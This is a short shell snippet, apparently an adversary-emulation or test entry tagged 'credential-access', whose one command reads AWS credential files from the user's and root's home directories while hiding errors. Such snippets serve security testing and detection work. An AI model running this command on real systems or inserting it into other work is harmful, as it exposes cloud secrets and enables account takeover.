# tactic: credential-access
# read cloud credentials
cat $HOME/.aws/credentials /root/.aws/credentials 2>/dev/null; true
